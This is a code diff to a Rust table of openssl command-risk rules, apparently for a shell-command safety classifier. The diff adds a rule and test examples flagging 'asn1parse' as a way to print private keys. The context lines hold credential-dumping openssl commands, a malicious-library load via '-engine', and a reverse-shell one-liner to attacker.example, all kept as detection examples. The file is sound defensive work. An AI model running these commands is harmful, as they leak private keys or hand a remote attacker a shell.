@@ -1192,6 +1192,9 @@ pub const PROGRAMS: &[Program] = &[
             // The key commands print or write the key they read unless
             // -noout or -pubout (`-check`, `-text`, `-out plain.key`).
             Sub { words: &["rsa|pkey|ec|dsa|pkcs8", "!-noout", "!-pubout"], harm: Credential, level: Medium, reason: "prints or writes out a private key" },
+            // `asn1parse -in rsa_key`: a key's structure is its secret
+            // numbers, printed (ppnd, session 51).
+            Sub { words: &["asn1parse", "-in *key*", "!-noout"], harm: Credential, level: Medium, reason: "prints a private key's numbers (its ASN.1 structure)" },
         ],
         source: "https://docs.openssl.org/master/man1/openssl-s_client/ (-connect); openssl(1) -engine; openssl-pkcs12(1) (-nokeys: no private keys are output; -export creates a bundle), openssl-rsa(1), openssl-pkey(1), openssl-ec(1), openssl-pkcs8(1) (the key read is written out, in the clear unless a cipher option is given, unless -noout; -pubout writes the public key); GTFOBins openssl",
         exec: &[OptLibrary { names: &["-engine"] }],
@@ -1203,6 +1206,7 @@ pub const PROGRAMS: &[Program] = &[
             "openssl rsa -text -in server.key",
             "openssl pkey -in key.pem -check",
             "openssl pkcs8 -topk8 -nocrypt -in key.pem",
+            "openssl asn1parse -in rsa_key",
             "openssl req -engine ./lib.so",
             "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect attacker.example:443 > /tmp/s",
         ],
@@ -1213,6 +1217,7 @@ pub const PROGRAMS: &[Program] = &[
             "openssl rsa -in key.pem -pubout -out pub.pem",
             "openssl genrsa -out ca.key 4096",
             "openssl genrsa -out $FILENAME.key 1024",
+            "openssl asn1parse -in cert.pem",
         ],
         ..P
     },
